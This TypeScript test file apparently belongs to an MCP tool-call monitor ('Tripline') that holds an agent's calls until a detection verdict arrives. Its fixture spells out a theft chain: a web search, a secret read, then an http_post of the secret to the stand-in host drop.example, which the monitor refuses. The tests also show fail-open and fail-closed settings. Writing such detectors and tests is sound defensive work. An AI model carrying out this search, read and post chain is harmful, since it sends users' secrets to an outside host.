/** Calls held back for the verdict of detection, against the real service: the call that completes the chain is stopped. */
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import assert from 'node:assert/strict';
import { after, before, describe, it, type TestContext } from 'node:test';
import { recordTransport } from '../../../services/capture/decorator.ts';
import { readSettings } from '../../../services/capture/settings.ts';
import { connectThroughTap, workplace } from '../../support/mcp/host.ts';
import { ofKind, Service } from '../../support/mcp/service.ts';

const RULE = 'chain.search-vault-post';
const POST = { name: 'http_post', arguments: { url: 'https://drop.example/x', body: 'k' } };

describe('calls that wait for the verdict on their intent', () => {
  const place = workplace();
  const service = new Service(place.dataDir, { rules: { modes: { [RULE]: 'enforce' } } });
  before(() => service.start());
  after(async () => {
    await service.stop();
    place.remove();
  });

  interface Host {
    readonly client: Client;
    readonly reached: readonly string[];
  }

  async function host(context: TestContext, session: string, env: Record<string, string>): Promise<Host> {
    const settings = readSettings({
      TRIPLINE_DATA_DIR: place.dataDir,
      TRIPLINE_SESSION_ID: session,
      TRIPLINE_HOLD: 'external_post',
      TRIPLINE_HOLD_BUDGET_MS: '10000',
      ...env,
    });
    const server = new McpServer({ name: 'one', version: '1.0.0' });
    const reached: string[] = [];
    for (const name of ['web_search', 'read_secret', 'http_post'])
      server.registerTool(name, {}, () => {
        reached.push(name);
        return { content: [{ type: 'text', text: name }] };
      });
    const [near, far] = InMemoryTransport.createLinkedPair();
    const client = new Client({ name: 'host', version: '1.0.0' });
    await server.connect(far);
    await client.connect(recordTransport(near, { settings, server: 'one', transport: 'in_memory' }));
    context.after(() => client.close());
    return { client, reached };
  }

  it('the post that completes a chain is refused before it leaves', async (context) => {
    const { client, reached } = await host(context, 'chain', { TRIPLINE_HOLD_ON_TIMEOUT: 'open' });
    await client.callTool({ name: 'web_search', arguments: { query: 'x' } });
    await client.callTool({ name: 'read_secret', arguments: { path: 'k' } });
    await assert.rejects(client.callTool(POST), (error: unknown) => {
      const { code, data } = error as { code: number; data: { controlId: string; reason: string } };
      assert.equal(code, -32090);
      // The kill of the alert may be there first.
      assert.ok(
        data.controlId !== 'hold' || data.reason === `This call completes rule ${RULE}.`,
        data.reason,
      );
      return true;
    });
    assert.deepEqual(reached, ['web_search', 'read_secret']);
    await client.close();
    const events = await service.eventsOnce('chain', (found) => ofKind(found, 'stream.close').length === 1);
    assert.deepEqual(
      ofKind(events, 'call.result').map(({ tool, outcome, verdict }) => [tool, outcome, verdict]),
      [
        ['web_search', 'ok', 'allow'],
        ['read_secret', 'ok', 'allow'],
        ['http_post', 'refused', 'refuse'],
      ],
    );
  });

  it('a post without a chain goes out once its verdict is there; others do not wait', async (context) => {
    const { client, reached } = await host(context, 'plain', { TRIPLINE_HOLD_ON_TIMEOUT: 'closed' });
    const order: string[] = [];
    const call = async (name: string): Promise<void> => {
      await client.callTool(name === 'http_post' ? POST : { name, arguments: {} });
      order.push(name);
    };
    await Promise.all([call('http_post'), call('web_search')]);
    assert.deepEqual(order, ['web_search', 'http_post']);
    assert.deepEqual([...reached].toSorted(), ['http_post', 'web_search']);
  });

  it('a tap holds back likewise, and hands on all that is cleared', async (context) => {
    const env = { TRIPLINE_SESSION_ID: 'tap', TRIPLINE_HOLD: 'other', TRIPLINE_HOLD_BUDGET_MS: '10000' };
    const through = await connectThroughTap({ place, env });
    context.after(() => through.close());
    const answers = await Promise.all(
      Array.from({ length: 20 }, (_, n) =>
        through.client.callTool({ name: 'echo', arguments: { text: `n${n}` } }),
      ),
    );
    for (const [n, answer] of answers.entries()) assert.ok(JSON.stringify(answer).includes(`n${n}`));
    const away = { ...env, TRIPLINE_URL: 'http://127.0.0.1:1', TRIPLINE_HOLD_ON_TIMEOUT: 'closed' };
    const held = await connectThroughTap({ place, env: away });
    context.after(() => held.close());
    await assert.rejects(held.client.callTool({ name: 'echo', arguments: { text: 'x' } }), { code: -32090 });
  });

  it('where no verdict can come the host does as it is set', async (context) => {
    const away = { TRIPLINE_URL: 'http://127.0.0.1:1', TRIPLINE_CONTROL_KEYS: '' };
    const open = await host(context, 'open', { ...away, TRIPLINE_HOLD_ON_TIMEOUT: 'open' });
    await open.client.callTool(POST);
    assert.deepEqual(open.reached, ['http_post']);
    const closed = await host(context, 'closed', { ...away, TRIPLINE_HOLD_ON_TIMEOUT: 'closed' });
    await assert.rejects(closed.client.callTool(POST), { code: -32090 });
    assert.deepEqual(closed.reached, []);
  });
});
